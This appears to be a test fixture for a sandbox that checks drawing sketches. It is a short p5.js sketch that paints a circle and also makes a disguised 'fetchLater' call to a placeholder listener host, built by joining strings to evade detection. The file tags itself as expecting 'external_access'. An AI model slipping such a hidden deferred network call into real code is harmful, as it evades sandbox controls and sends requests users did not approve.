// tries: a request for when the page is gone
// expect: external_access, painting
const hidden = (...parts) => parts.join("");
function setup() {
  createCanvas(600, 600, WEBGL);
  noLoop();
}

function draw() {
  background("#faf5ea");
  brush.noStroke();
  brush.fill("#d75f4c", 180);
  brush.circle(0, 0, 120, 0.3);
  try {
    window[hidden("fetch", "Later")]("http://@LISTENER@/later", { activateAfter: 0 });
  } catch {}
}
